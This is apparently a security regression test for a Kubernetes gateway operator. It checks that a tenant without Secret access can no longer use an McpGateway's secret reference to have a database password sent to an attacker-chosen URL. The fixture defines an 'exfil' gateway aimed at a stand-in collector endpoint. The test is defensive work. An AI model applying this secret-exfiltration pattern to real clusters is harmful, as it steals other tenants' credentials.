// Attacker test for issue 11 finding 5 (MEDIUM, several tenants in one cluster), Secret references:
// the operator read Secrets cluster-wide and sent a same-namespace Secret's value to the URL the
// gateway author chose. Someone who may create McpGateways but not read Secrets could take that
// namespace's Secrets. The real kube-apiserver with RBAC, a tenant user with a real client
// certificate, the real operator and a real proxy.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gatewayId } from '../../../src/api/ids.ts';
import { McpGateway } from '../../../src/api/mcp-gateway.ts';
import type { OperatorHandle } from '../../../src/operator/run.ts';
import { desiredGateway } from '../../../src/reconcile/desired.ts';
import { controlPlaneAvailable, type ControlPlane } from '../../support/control-plane.ts';
import { condition, eventually, gatewayDoc, kubectlJson, startCluster, startTestOperator, startTestProxy, stopTestProxy, type Cond, type TestProxy } from '../operator/harness.ts';

const available = controlPlaneAvailable();
if (!available) console.warn('secret-opt-in.test.ts skipped: no test control plane (docs/test-control-plane.md)');

const NS = 'team-b';
const PASSWORD = 'db-password-that-the-tenant-must-never-see';
/** Where the tenant wants the value sent: any URL they like (what the proxy then calls with it). */
const ATTACKER_URL = 'http://127.0.0.1:9/collect';

describe.skipIf(!available)('attacker: a tenant who cannot get a Secret references it from an McpGateway', () => {
  let cp: ControlPlane;
  let proxy: TestProxy;
  let op: OperatorHandle;
  let tenant: string;

  beforeAll(async () => {
    cp = await startCluster();
    await cp.kubectl(['create', 'namespace', NS], { check: true });
    // The tenant may write McpGateways in team-b and read them back; nothing on Secrets.
    await cp.kubectl(['-n', NS, 'create', 'role', 'gateway-author', '--verb=get,list,watch,create,update,patch', '--resource=mcpgateways.mcp-gitops.dev'], { check: true });
    await cp.kubectl(['-n', NS, 'create', 'rolebinding', 'gateway-author', '--role=gateway-author', '--user=tenant-dev'], { check: true });
    tenant = await cp.userKubeconfig('tenant-dev');
    // The namespace's database password, created by its owner, not for gateways (no opt-in label).
    await cp.kubectl(['-n', NS, 'create', 'secret', 'generic', 'db', `--from-literal=password=${PASSWORD}`], { check: true });
    proxy = await startTestProxy();
    op = await startTestOperator(cp, { proxyUrl: [proxy.adminUrl], concurrent: 2 });
  }, 120_000);
  afterAll(async () => {
    await op?.stop();
    if (proxy) await stopTestProxy(proxy);
    await cp?.stop();
  });

  const gatewayUsing = (name: string, secret: string) => gatewayDoc(NS, name, ATTACKER_URL, { auth: { type: 'Bearer', bearer: { secretRef: { name: secret, key: 'password' } } } });

  it('RBAC really stops the tenant reading the Secret (the control)', async () => {
    const r = await cp.kubectl(['-n', NS, 'get', 'secret', 'db'], { kubeconfig: tenant });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('forbidden');
  });

  it('the tenant’s gateway is refused: SecretNotFound naming the label; the value never reaches a proxy', async () => {
    const doc = gatewayUsing('exfil', 'db');
    const created = await cp.kubectl(['apply', '-f', '-'], { input: JSON.stringify(doc), kubeconfig: tenant });
    expect(created.stderr).toBe('');
    const gw = await eventually(async () => {
      const o = await kubectlJson<{ status?: { conditions?: Cond[] } }>(cp, ['get', '-n', NS, 'mcpgateway', 'exfil']);
      return condition(o, 'Stalled')?.status === 'True' ? o : undefined;
    }, 20_000, 'exfil gateway stalled');
    expect(condition(gw, 'Stalled')).toMatchObject({ reason: 'SecretNotFound', message: expect.stringContaining('not labelled mcp-gitops.dev/allow-reference: "true"') });
    // The proxy holds no registration with the value (the old operator PUT one, whose hash is this).
    const withValue = desiredGateway(McpGateway.parse(doc), () => ({ password: PASSWORD })).hash;
    const held = await proxy.admin.getGateway(gatewayId(NS, 'exfil'));
    expect(held?.specHash).not.toBe(withValue);
    expect(held).toBeUndefined();
    // Nor does the value show anywhere the tenant can read.
    const readable = (await cp.kubectl(['-n', NS, 'get', 'mcpgateway', 'exfil', '-o', 'json'], { kubeconfig: tenant, check: true })).stdout;
    expect(readable).not.toContain(PASSWORD);
  });

  it('a Secret its owner labelled for gateways resolves as before', async () => {
    await cp.kubectl(['-n', NS, 'create', 'secret', 'generic', 'upstream-token', '--from-literal=password=shared-upstream-token'], { check: true });
    await cp.kubectl(['-n', NS, 'label', 'secret', 'upstream-token', 'mcp-gitops.dev/allow-reference=true'], { check: true });
    const doc = gatewayUsing('allowed', 'upstream-token');
    await cp.kubectl(['apply', '-f', '-'], { input: JSON.stringify(doc), kubeconfig: tenant, check: true });
    const hash = desiredGateway(McpGateway.parse(doc), () => ({ password: 'shared-upstream-token' })).hash;
    await eventually(async () => (await proxy.admin.getGateway(gatewayId(NS, 'allowed')))?.specHash === hash, 20_000, 'labelled Secret resolved');
  });
});
